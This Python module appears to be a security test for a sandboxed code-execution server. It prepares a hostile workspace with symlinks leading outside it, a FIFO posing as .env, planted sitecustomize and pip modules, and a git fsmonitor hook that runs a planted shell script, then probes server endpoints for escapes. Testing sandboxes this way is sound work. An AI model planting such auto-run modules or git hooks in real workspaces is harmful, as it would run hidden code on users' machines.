# SPDX-License-Identifier: Apache-2.0
"""A workspace that somebody has prepared: links out of it, a FIFO as .env, giant and planted files"""

import os

from box import Box, CannotTry, Mode
from plants import MODULE, SH, drive_kernels, drive_packages, wheel

BREAKS = (
    "SECURITY.md",
    "What the server writes stays below the workspace, also when code puts links there",
)
OPEN = {"runsc *": ("SECURITY.md", "what the server writes goes where links of the workspace lead")}


def box_for(mode: Mode) -> Box:
    box = Box(mode, words=["--kernel-gateway-port", "8888"])
    outside = box.folder / "outside"
    outside.mkdir()
    outside.chmod(0o777)
    box.options += ["-v", f"{outside}:/outside"]
    space = box.workspace
    (space / ".env").unlink()
    os.mkfifo(space / ".env", 0o666)
    for name in "mcptools", "outputs", "images", ".ipybox":
        (space / name).symlink_to("/outside")
    for name in "pip.py", "sitecustomize.py", "usercustomize.py", "kernel_gateway.py":
        (space / name).write_text(MODULE.replace("{0!r}", repr(f"W/{name}")))
    (space / "plant.sh").write_text(SH.replace("{0}", "git"))
    (space / "plant.sh").chmod(0o755)
    (space / ".git" / "config").write_text("[core]\n\tfsmonitor = /app/workspace/plant.sh\n")
    (space / ("n" * 255)).write_text("")
    return box


def attack(box: Box) -> str:
    package = wheel(box.workspace)
    box.run()
    box.run_cell("print('x' * 100000)")
    box.run_cell(
        "from IPython.display import display, Image\ndisplay(Image(data=b'\\x89PNG\\r\\n\\x1a\\n' + b'0' * 99))"
    )
    params = {"command": "python3", "args": ["/attack/mcp_server.py"]}
    box.call("POST", "/v1/mcp-servers", {"name": "linked", "params": params})
    drive_packages(box, package)
    drive_kernels(box)
    for path in "/v1/files", "/v1/tar", "/v1/files/outputs", "/v1/files/.env":
        box.call("GET", path, timeout=10)
    if box.call("GET", "/livez", token="").status != 200:
        raise CannotTry("the server does not answer any more")
    written = sorted(path.name for path in (box.folder / "outside").rglob("*") if path.is_file())
    got = [f"written outside: {written[:5]}"] if written else []
    return "; ".join([*got, box.loot_of_plants()]).strip("; ")
